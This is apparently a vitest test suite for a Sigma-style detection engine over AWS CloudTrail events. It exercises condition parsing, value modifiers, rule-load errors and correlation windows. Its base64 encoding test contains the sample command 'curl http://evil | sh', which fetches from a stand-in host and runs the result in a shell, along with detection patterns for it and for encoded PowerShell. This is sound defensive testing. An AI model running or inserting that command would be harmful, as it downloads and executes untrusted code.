import { describe, expect, it } from 'vitest';
import { detectEvents } from '../engine.js';
import { parseCondition } from './condition.js';
import { loadRules } from './load.js';
import type { Event } from './fields.js';

const rule = (detection: string, extra = '') => `title: test rule
id: 00000000-0000-4000-8000-000000000001
logsource:
  product: aws
  service: cloudtrail
level: high
${extra}
detection:
${detection.replace(/^/gm, '  ')}
`;

function matches(detection: string, event: Record<string, unknown>): boolean {
  const set = loadRules([{ file: 't.yml', text: rule(detection) }]);
  expect(set.problems).toEqual([]);
  return detectEvents(set, [{ eventTime: '2026-11-20T08:00:00Z', eventID: 'e1', ...event }]).length > 0;
}

function problem(text: string): string {
  const set = loadRules([{ file: 't.yml', text }]);
  expect(set.rules).toEqual([]);
  return set.problems.map((p) => p.reason).join('; ');
}

describe('the condition grammar', () => {
  it('binds or < and < not < of, with parentheses', () => {
    expect(parseCondition('a or b and not c')).toEqual({ kind: 'or', items: [{ kind: 'id', name: 'a' }, { kind: 'and', items: [{ kind: 'id', name: 'b' }, { kind: 'not', item: { kind: 'id', name: 'c' } }] }] });
    expect(parseCondition('(a or b) and 1 of sel_*')).toEqual({ kind: 'and', items: [{ kind: 'or', items: [{ kind: 'id', name: 'a' }, { kind: 'id', name: 'b' }] }, { kind: 'of', quantity: 1, pattern: 'sel_*' }] });
    expect(parseCondition('all of them')).toEqual({ kind: 'of', quantity: 'all', pattern: 'them' });
  });

  it('rejects broken conditions with the place and the Sigma 1 pipe with a pointer to correlations', () => {
    expect(() => parseCondition('a and')).toThrow(/ended/);
    expect(() => parseCondition('(a or b')).toThrow(/expected "\)"/);
    expect(() => parseCondition('a b')).toThrow(/unexpected "b"/);
    expect(() => parseCondition('selection | count() > 5')).toThrow(/correlation rule/);
  });

  it('evaluates 1 of / all of over wildcards, and them without _ identifiers', () => {
    const d = `sel_a:\n  eventName: A\nsel_b:\n  eventSource: s\n_helper:\n  eventName: Z\ncondition: `;
    expect(matches(`${d}1 of sel_*`, { eventName: 'A' })).toBe(true);
    expect(matches(`${d}all of sel_*`, { eventName: 'A' })).toBe(false);
    expect(matches(`${d}all of sel_*`, { eventName: 'A', eventSource: 's' })).toBe(true);
    expect(matches(`${d}all of them`, { eventName: 'A', eventSource: 's' })).toBe(true);
    expect(matches(`${d}not 1 of sel_* and not _helper`, { eventName: 'Q' })).toBe(true);
  });
});

describe('values and modifiers', () => {
  const ev = {
    eventName: 'PutBucketPolicy',
    sourceIPAddress: '203.0.113.9',
    errorCode: undefined,
    readOnly: false,
    userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::1:user/alice', userName: 'alice' },
    requestParameters: { bucketName: 'logs', policy: { Statement: [{ Effect: 'Allow', Principal: '*' }] }, items: [{ port: 22 }, { port: 3389 }] },
    responseElements: { count: '12' },
  };
  const yes = (d: string) => expect(matches(`${d}\ncondition: s`, ev), d).toBe(true);
  const no = (d: string) => expect(matches(`${d}\ncondition: s`, ev), d).toBe(false);

  it('matches case-insensitively with wildcards and escapes, and by text for non-strings', () => {
    yes('s:\n  eventName: putbucketpolicy');
    yes('s:\n  eventName: Put*Policy');
    yes('s:\n  eventName: PutBucketPolic?');
    no('s:\n  eventName: Put\\*Policy');
    yes("s:\n  readOnly: 'false'");
    yes('s:\n  readOnly: false');
    no('s:\n  eventName|cased: putbucketpolicy');
  });

  it('treats lists as OR, |all as AND, null as absent, a list of maps as OR', () => {
    yes('s:\n  eventName: [A, PutBucketPolicy]');
    no('s:\n  eventName|contains|all: [Bucket, Nope]');
    yes('s:\n  eventName|contains|all: [Bucket, Policy]');
    yes('s:\n  errorCode: null');
    no('s:\n  userIdentity.type: null');
    yes('s:\n  - eventName: A\n  - userIdentity.userName: alice');
  });

  it('walks nested fields through arrays, and matches contains on objects against their JSON text', () => {
    yes('s:\n  requestParameters.items.port: 3389');
    no('s:\n  requestParameters.items.port: 443');
    yes('s:\n  requestParameters.policy|contains: \'"Principal":"*"\'');
    yes('s:\n  requestParameters|contains: logs');
  });

  it('supports startswith, endswith, exists, numeric comparisons, cidr, re, fieldref and keywords', () => {
    yes("s:\n  userIdentity.arn|startswith: 'arn:aws:iam::'");
    yes('s:\n  userIdentity.arn|endswith: /ALICE');
    yes('s:\n  requestParameters.bucketName|exists: true');
    yes('s:\n  errorCode|exists: false');
    yes('s:\n  responseElements.count|gte: 10');
    no('s:\n  responseElements.count|lt: 10');
    yes('s:\n  sourceIPAddress|cidr: 203.0.113.0/24');
    no('s:\n  sourceIPAddress|cidr: 10.0.0.0/8');
    yes("s:\n  userIdentity.arn|re: ':user/[a-z]+$'");
    no("s:\n  userIdentity.arn|re: ':USER/'");
    yes("s:\n  userIdentity.arn|re|i: ':USER/'");
    yes('s:\n  userIdentity.arn|fieldref|endswith: userIdentity.userName');
    no('s:\n  userIdentity.arn|fieldref: userIdentity.userName');
    yes('s:\n  - alice');
    no('s:\n  - mallory');
  });

  it('encodes values for base64, base64offset, utf16 and windash', () => {
    const text = Buffer.from('curl http://evil | sh').toString('base64');
    expect(matches('s:\n  data|base64offset|contains: http://evil\ncondition: s', { data: `xx${text}` })).toBe(true);
    expect(matches('s:\n  data|base64offset|contains: http://evil\ncondition: s', { data: Buffer.from('Ab curl http://evil').toString('base64') })).toBe(true);
    expect(matches('s:\n  data|base64: secret\ncondition: s', { data: Buffer.from('secret').toString('base64') })).toBe(true);
    expect(matches('s:\n  data|wide|base64offset|contains: ping\ncondition: s', { data: Buffer.from('x ping y', 'utf16le').toString('base64') })).toBe(true);
    expect(matches('s:\n  cmd|windash|contains: " -enc "\ncondition: s', { cmd: 'powershell /enc abc' })).toBe(true);
  });
});

describe('rules that cannot load are named with the reason', () => {
  it('reports bad YAML, other log sources, unknown or unsupported modifiers, bad regexes and missing identifiers', () => {
    expect(problem('title: x\n  bad: [')).toMatch(/YAML/);
    expect(problem(rule('s:\n  a: 1\ncondition: s').replace('product: aws', 'product: windows'))).toMatch(/not product: aws/);
    expect(problem(rule('s:\n  a|sparkle: 1\ncondition: s'))).toMatch(/unknown modifier "sparkle"/);
    expect(problem(rule('s:\n  a|expand: "%x%"\ncondition: s'))).toMatch(/expand/);
    expect(problem(rule('s:\n  a|re: "(?=x)"\ncondition: s'))).toMatch(/linear time/);
    expect(problem(rule('s:\n  a: 1\ncondition: t'))).toMatch(/"t"/);
    expect(problem(rule('s:\n  a: 1\ncondition: s | count() > 3'))).toMatch(/correlation/);
    expect(problem(rule('s:\n  a: 1\ntimeframe: 5m\ncondition: s'))).toMatch(/timeframe/);
  });

  it('keeps the good documents of a file whose other documents fail', () => {
    const set = loadRules([{ file: 'mixed.yml', text: `${rule('s:\n  a: 1\ncondition: s')}---\ntitle: broken\ndetection: {}\n` }]);
    expect(set.rules).toHaveLength(1);
    expect(set.problems).toEqual([{ file: 'mixed.yml', rule: 'broken', reason: expect.stringMatching(/logsource/) as string }]);
  });
});

describe('correlations', () => {
  const base = (name: string, id: string, eventName: string) => `title: ${name}
id: ${id}
name: ${name}
logsource: { product: aws, service: cloudtrail }
detection:
  s: { eventName: ${eventName} }
  condition: s
`;
  const at = (minute: number, eventName: string, extra: Record<string, unknown> = {}): Event => ({
    eventTime: new Date(Date.UTC(2026, 10, 20, 8, minute)).toISOString(),
    eventName,
    eventID: `${eventName}-${minute}`,
    userIdentity: { userName: 'alice' },
    sourceIPAddress: `198.51.100.${minute}`,
    recipientAccountId: '1',
    awsRegion: 'us-east-1',
    ...extra,
  });
  const correlation = (body: string) => `title: corr\nid: c0000000-0000-4000-8000-000000000000\nlevel: high\ncorrelation:\n${body.replace(/^/gm, '  ')}\n---\n${base('fail', 'a0000000-0000-4000-8000-000000000000', 'Fail')}---\n${base('ok', 'b0000000-0000-4000-8000-000000000000', 'Ok')}`;
  const run = (body: string, events: Event[]) => {
    const set = loadRules([{ file: 'c.yml', text: correlation(body) }]);
    expect(set.problems).toEqual([]);
    return detectEvents(set, events);
  };

  it('event_count fires once per burst, per group, and base rules do not alert on their own', () => {
    const body = 'type: event_count\nrules: [fail]\ngroup-by: [userIdentity.userName]\ntimespan: 10m\ncondition: { gte: 3 }';
    const alerts = run(body, [at(0, 'Fail'), at(1, 'Fail'), at(2, 'Fail'), at(3, 'Fail'), at(30, 'Fail')]);
    expect(alerts.map((a) => [a.title, a.count, a.group])).toEqual([['corr', 4, { 'userIdentity.userName': 'alice' }]]);
    expect(run(body, [at(0, 'Fail'), at(11, 'Fail'), at(22, 'Fail')])).toEqual([]);
  });

  it('value_count counts distinct values of the field', () => {
    const body = 'type: value_count\nrules: [fail]\ngroup-by: [recipientAccountId]\ntimespan: 1h\ncondition: { field: sourceIPAddress, gte: 3 }';
    expect(run(body, [at(0, 'Fail'), at(0, 'Fail'), at(1, 'Fail')])).toEqual([]);
    expect(run(body, [at(0, 'Fail'), at(1, 'Fail'), at(2, 'Fail')])).toHaveLength(1);
  });

  it('temporal needs every rule in the window; temporal_ordered in order', () => {
    const temporal = 'type: temporal\nrules: [fail, ok]\ngroup-by: [userIdentity.userName]\ntimespan: 5m';
    expect(run(temporal, [at(0, 'Ok'), at(2, 'Fail')])).toHaveLength(1);
    expect(run(temporal, [at(0, 'Ok'), at(9, 'Fail')])).toEqual([]);
    const ordered = temporal.replace('type: temporal', 'type: temporal_ordered');
    expect(run(ordered, [at(0, 'Ok'), at(2, 'Fail')])).toEqual([]);
    expect(run(ordered, [at(0, 'Fail'), at(2, 'Ok')])).toHaveLength(1);
  });

  it('upper bounds are decided when the window closes', () => {
    const body = 'type: event_count\nrules: [fail]\ngroup-by: [userIdentity.userName]\ntimespan: 10m\ncondition: { gte: 2, lte: 3 }';
    expect(run(body, [at(0, 'Fail'), at(1, 'Fail')])).toHaveLength(1);
    expect(run(body, [at(0, 'Fail'), at(1, 'Fail'), at(2, 'Fail'), at(3, 'Fail')])).toEqual([]);
  });

  it('chains correlations and resolves aliases', () => {
    const text = `title: success after failures\nid: d0000000-0000-4000-8000-000000000000\nlevel: critical\ncorrelation:\n  type: temporal_ordered\n  rules: [many, ok]\n  group-by: [who]\n  aliases:\n    who: { many: userIdentity.userName, ok: requestParameters.user }\n  timespan: 1h\n---\ntitle: many\nid: e0000000-0000-4000-8000-000000000000\nname: many\ncorrelation:\n  type: event_count\n  rules: [fail]\n  group-by: [userIdentity.userName]\n  timespan: 10m\n  condition: { gte: 2 }\n---\n${base('fail', 'a0000000-0000-4000-8000-000000000000', 'Fail')}---\n${base('ok', 'b0000000-0000-4000-8000-000000000000', 'Ok')}`;
    const set = loadRules([{ file: 'chain.yml', text }]);
    expect(set.problems).toEqual([]);
    const alerts = detectEvents(set, [at(0, 'Fail'), at(1, 'Fail'), at(5, 'Ok', { userIdentity: { userName: 'svc' }, requestParameters: { user: 'alice' } })]);
    expect(alerts.map((a) => [a.title, a.group])).toEqual([['success after failures', { who: 'alice' }]]);
  });

  it('names a correlation whose rules are missing, or that refers to itself', () => {
    expect(problem('title: c\ncorrelation:\n  type: event_count\n  rules: [nothing]\n  timespan: 1m\n  condition: { gte: 1 }')).toMatch(/"nothing"/);
    expect(problem('title: c\nname: c\ncorrelation:\n  type: event_count\n  rules: [c]\n  timespan: 1m\n  condition: { gte: 1 }')).toMatch(/itself/);
    expect(problem('title: c\ncorrelation:\n  type: sometimes\n  rules: [x]\n  timespan: 1m')).toMatch(/sometimes/);
    expect(problem('title: c\ncorrelation:\n  type: event_count\n  rules: [x]\n  timespan: soon\n  condition: { gte: 1 }')).toMatch(/timespan/);
  });
});
